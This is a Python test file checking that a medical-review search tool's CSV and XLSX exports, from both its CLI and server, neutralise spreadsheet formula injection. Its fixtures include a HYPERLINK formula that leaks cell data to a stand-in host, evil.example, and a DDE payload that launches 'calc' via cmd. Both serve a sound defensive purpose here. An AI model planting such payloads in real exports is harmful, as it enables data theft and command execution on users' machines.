"""The one place exports are written (present/export.py), and spreadsheet formulas (CSV
injection) in every export: the CLI's and the server's CSV and
XLSX of a search, facets, precedents, the citator, cross-tabs and alerts, on a real index of
letters whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.

A defused CSV cell starts with an apostrophe; a defused XLSX cell is a string cell with Excel's
quote prefix (the text is kept as it was, and editing the cell never makes it a formula).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from server_fixtures import serve_in_thread

from imr_search.analysis.alerts import AlertStore, SavedSearch, alerts_path
from imr_search.cli import main
from imr_search.config import Settings
from imr_search.engines.registry import ENGINES, open_engine
from imr_search.model import Letter
from imr_search.present.export import table_csv, table_xlsx
from imr_search.server import create_app

# isort: split
from factories import index_letters, make_item, make_letter, xlsx_rows

pytest_plugins = ["server_fixtures"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SERVICE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
LETTER_ID = "+1+1"
SPECIALTY = "@SUM(1+1)*cmd|' /C calc'!A0"
GUIDELINE = "-2+3 MTUS Chronic Pain"
RATIONALE = "\tTAB then the rest"
CR_SERVICE = "\rCR first"


def hostile_letters() -> list[Letter]:
    item = make_item(
        service=SERVICE, imr_guideline=GUIDELINE, rationale=RATIONALE, decision="overturned"
    )
    first = make_letter(LETTER_ID, specialties=[SPECIALTY], items=[item])
    second = make_letter(
        "CM16-7000001", specialties=[SPECIALTY], items=[make_item(service=SERVICE)]
    )
    return [first, second]


def late_letter() -> Letter:
    """Indexed after the alert is saved: the run's new item."""
    return make_letter(
        "=CM16-7000002", specialties=[SPECIALTY], items=[make_item(service=CR_SERVICE)]
    )


@pytest.fixture(scope="module", params=sorted(ENGINES))
def index(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp(f"formulas-{request.param}") / "index"
    engine = open_engine(path, engine=request.param, create=True)
    try:
        index_letters(engine, hostile_letters())
        with AlertStore(alerts_path(path)) as store:
            store.add(engine, SavedSearch(name="everything", query="", filters={}))
            index_letters(engine, [late_letter()])
            store.record_run(engine)
    finally:
        engine.close()
    return path


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str, *expected: str) -> None:
    cells = csv_cells(text)
    live = [c for c in cells if c.startswith(FORMULA_START)]
    assert not live, f"cells a spreadsheet would run: {live}"
    for value in expected:  # the hostile text is there, defused (so the check is not vacuous)
        assert any(c.startswith("'" + value) for c in cells), (value, cells[:40])


def assert_xlsx_defused(data: bytes, *expected: str) -> None:
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet is not None
    risky = [
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(FORMULA_START)
    ]
    assert risky, "no hostile cell reached the workbook"
    for c in risky:
        assert c.data_type == "s", (c.coordinate, c.value)
        assert c.quotePrefix, (c.coordinate, c.value)
    texts = {str(c.value) for c in risky}
    for value in expected:
        assert any(t.startswith(value) for t in texts), (value, texts)


def cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_the_cli_exports_defuse_formulas(index: Path) -> None:
    ix = ("--index", str(index))
    assert_defused(
        cli("search", "--format", "csv", *ix), SERVICE, LETTER_ID, SPECIALTY, GUIDELINE, RATIONALE
    )
    assert_defused(cli("stats", "--by", "specialty", "--format", "csv", *ix), SPECIALTY)
    assert_defused(cli("citator", "--format", "csv", *ix))
    assert_defused(cli("alerts", "new", "everything", "--format", "csv", *ix), "=CM16", "\r")


def test_the_cli_xlsx_export_marks_formulas_as_text(index: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["search", "--format", "xlsx", "--index", str(index)])
    assert result.exit_code == 0, result.output
    assert_xlsx_defused(result.stdout_bytes, SERVICE, LETTER_ID, SPECIALTY, GUIDELINE)


@pytest.fixture(scope="module")
def server(index: Path) -> Iterator[httpx.Client]:
    app = create_app(Settings(index_dir=index))
    with serve_in_thread(app) as url, httpx.Client(base_url=url, timeout=30) as client:
        yield client


def test_the_server_exports_defuse_formulas(server: httpx.Client) -> None:
    def get(path: str, **params: str) -> httpx.Response:
        response = server.get(path, params=params)
        assert response.status_code == 200, response.text
        return response

    hostile = (SERVICE, LETTER_ID, SPECIALTY, GUIDELINE, RATIONALE)
    assert_defused(get("/api/search.csv").text, *hostile)
    assert_defused(get("/api/search", format="csv").text, *hostile)
    assert_defused(get("/api/facets", format="csv").text, SPECIALTY)
    assert_defused(get("/api/crosstab", rows="specialty", format="csv").text, SPECIALTY)
    assert_defused(
        get("/api/crosstab", rows="specialty", cols="decision", format="csv").text, SPECIALTY
    )
    assert_defused(get("/api/citator", format="csv").text)
    assert_xlsx_defused(get("/api/search.xlsx").content, SERVICE, SPECIALTY, GUIDELINE)
    assert_xlsx_defused(get("/api/facets", format="xlsx").content, SPECIALTY)


# -- the one writer of every table (stats, cross-tabs, the citator, precedents) --------------

ROWS: list[list[object]] = [
    ["citation", "items", "rate", "when"],
    ['=HYPERLINK("x")', 12, 0.25, dt.date(2017, 1, 15)],
    ["+MTUS > Knee", 3, None, None],
]


def test_csv_defuses_formulas_and_writes_iso_dates() -> None:
    rows = list(csv.reader(io.StringIO(table_csv(ROWS))))
    assert rows == [
        ["citation", "items", "rate", "when"],
        ['\'=HYPERLINK("x")', "12", "0.25", "2017-01-15"],
        ["'+MTUS > Knee", "3", "", ""],
    ]


def test_xlsx_keeps_text_as_text_and_counts_as_numbers() -> None:
    rows = xlsx_rows(table_xlsx([*ROWS, ["2017", 1, 0.5, None]]))
    assert rows[0] == ("citation", "items", "rate", "when")
    assert rows[1][0] == '=HYPERLINK("x")'  # a string cell, never a formula
    assert rows[1][1] == 12
    assert rows[1][2] == 0.25
    assert rows[2][1] == 3
    assert rows[3][0] == "2017"  # text that looks like a number stays text (a year value)
